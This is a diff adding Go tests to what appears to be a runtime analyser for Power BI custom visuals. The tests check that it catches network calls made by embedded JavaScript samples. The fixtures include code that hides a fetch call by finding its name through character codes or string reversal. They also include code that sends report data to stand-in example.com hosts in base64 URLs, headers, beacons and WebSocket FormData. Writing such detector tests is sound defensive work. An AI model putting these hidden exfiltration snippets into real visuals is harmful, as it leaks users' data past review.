@@ -1,6 +1,7 @@
 package dynamic
 
 import (
+	"fmt"
 	"os"
 	"strconv"
 	"strings"
@@ -259,5 +260,120 @@ func TestPageLibrary(t *testing.T) {
 	rep = Run(Input{JS: strings.Replace(js, "pagelib", "d3", 1), GUID: gen.DefaultGUID}, Limits{})
 	if !strings.HasPrefix(rep.Error, "update: ReferenceError: d3 is not defined") || !strings.Contains(rep.Error, "--dynamic-lib") {
 		t.Errorf("error without the library: %q", rep.Error)
+	}
+}
+
+// A licence check started from a timer that calls a method it finds on the
+// global object by its properties' names (static analysis sees neither
+// the name nor the call): each way of finding it is observed in the timer
+// phase with the URL and its key, at the call site, and carries no report
+// data (a licence check is not an exfiltration).
+func TestTimerLicenceCheckThroughAGlobalFoundByName(t *testing.T) {
+	for name, find := range map[string]string{
+		"getOwnPropertyNames": `Object.getOwnPropertyNames(window).find(k => k.length === 5 && k.charCodeAt(0) === 102 && k.slice(1) === "etch")`,
+		"for-in":              `(() => { for (const k in window) if (k.length === 5 && k.charCodeAt(0) === 102 && k.slice(1) === "etch") return k; })()`,
+		"Reflect.ownKeys":     `Reflect.ownKeys(globalThis).find(k => typeof k === "string" && k.split("").reverse().join("") === "hctef")`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			v := visual(`    check() {
+        const m = `+find+`;
+        window[m]("https://lic.example.net/v2/verify?key=PBI-7781&v=" + this.host.hostEnv);
+    }`, `        if (!this.started) { this.started = true; setTimeout(() => this.check(), 45000); }`)
+			r, rep := checked(t, v)
+			requireAll(t, rep)
+			nets := observed(r, "NET001")
+			if len(nets) != 1 {
+				t.Fatalf("NET001 observed: %+v (observations %+v)", nets, rep.Observations)
+			}
+			n := nets[0]
+			if !strings.HasPrefix(n.Runtime.Target, "https://lic.example.net/v2/verify?key=PBI-7781") || n.Runtime.Phase != PhaseTimer || n.Runtime.ReportData || !n.Runtime.Observed {
+				t.Errorf("runtime %+v", n.Runtime)
+			}
+			// goja places a call at its argument list
+			if src := gen.BuildJS(v).JS; !strings.HasSuffix(src[:n.Location.Offset+1], "window[m](") {
+				t.Errorf("reported at %q, want the call window[m](…)", at(r, src, n))
+			}
+			if strings.Contains(n.Message, "report data") || !strings.Contains(n.Message, "lic.example.net/v2/verify?key=PBI-7781") {
+				t.Errorf("message %q", n.Message)
+			}
+		})
+	}
+}
+
+// Report data leaving the visual, through each channel a request has (URL,
+// header, body) and in the encodings that hide it from a plain search
+// (base64 in the URL, UTF-8 bytes in a beacon, a column's display name in
+// a FormData body sent over a WebSocket): each request is marked, raised to
+// error and names its host. A licence check sending only its key and the
+// host environment is not.
+func TestReportDataLeavingTheVisual(t *testing.T) {
+	r, rep := checked(t, visual("", `        const cat = dataView.categorical.categories[0];
+        const vals = dataView.categorical.values[0].values;
+        fetch("https://h.example.com/h", {headers: {"X-Label": String(cat.values[0])}});
+        const x = new XMLHttpRequest();
+        x.open("GET", "https://b64.example.com/p?d=" + btoa(JSON.stringify(cat.values.slice(0, 2))));
+        x.send();
+        navigator.sendBeacon("https://bytes.example.com/m", new TextEncoder().encode(JSON.stringify({v: vals[1]})));
+        const fd = new FormData();
+        fd.append("col", new Blob([cat.source.displayName]));
+        const ws = new WebSocket("wss://ws.example.com/s");
+        ws.send(fd);
+        fetch("https://lic.example.org/check?key=PBI-7781&rows=" + cat.values.length + "&env=" + this.host.hostEnv);`))
+	requireAll(t, rep)
+	want := map[string]bool{
+		"https://h.example.com/h":                                 true,
+		"https://bytes.example.com/m":                             true,
+		"wss://ws.example.com/s":                                  true,
+		"https://lic.example.org/check?key=PBI-7781&rows=5&env=1": false,
+	}
+	got := map[string]bool{}
+	for _, f := range r.Findings {
+		if f.Runtime == nil || !strings.HasPrefix(f.Rule, "NET") {
+			continue
+		}
+		u := f.Runtime.Target
+		if strings.HasPrefix(u, "https://b64.example.com/p?d=") {
+			u = "b64"
+		}
+		got[u] = f.Runtime.ReportData
+		if f.Runtime.ReportData {
+			h := hostOf(f.Runtime.Target)
+			if f.Severity != result.Error || !strings.Contains(f.Message, "sends report data") || !strings.HasSuffix(f.Message, " "+h) {
+				t.Errorf("%s: severity %s, message %q: want an error naming %s", f.Rule, f.Severity, f.Message, h)
+			}
+		}
+	}
+	want["b64"] = true
+	for u, rd := range want {
+		if g, ok := got[u]; !ok || g != rd {
+			t.Errorf("%s: observed %v, reportData %v; want reportData %v", u, ok, g, rd)
+		}
+	}
+	if len(got) != len(want) {
+		t.Errorf("requests observed: %v", got)
+	}
+	// results[].dynamic.requests: one per request, the WebSocket's opening
+	// (no report data) apart from its message (report data)
+	var reqs []string
+	for _, q := range r.Dynamic.Requests {
+		u := q.URL
+		if strings.HasPrefix(u, "https://b64.example.com/p?d=") {
+			u = "b64"
+		}
+		reqs = append(reqs, fmt.Sprintf("%s %s %s %s %v", q.Rule, q.API, q.Method, u, q.ReportData))
+		if q.Host != hostOf(q.URL) || q.Phase != PhaseUpdate || q.Location.Line == 0 {
+			t.Errorf("request %+v", q)
+		}
+	}
+	wantReqs := []string{
+		"NET001 fetch GET https://h.example.com/h true",
+		"NET002 XMLHttpRequest GET b64 true",
+		"NET005 sendBeacon POST https://bytes.example.com/m true",
+		"NET003 WebSocket GET wss://ws.example.com/s false",
+		"NET003 WebSocket.send SEND wss://ws.example.com/s true",
+		"NET001 fetch GET https://lic.example.org/check?key=PBI-7781&rows=5&env=1 false",
+	}
+	if strings.Join(reqs, "\n") != strings.Join(wantReqs, "\n") {
+		t.Errorf("dynamic.requests:\n%s\nwant\n%s", strings.Join(reqs, "\n"), strings.Join(wantReqs, "\n"))
 	}
 }
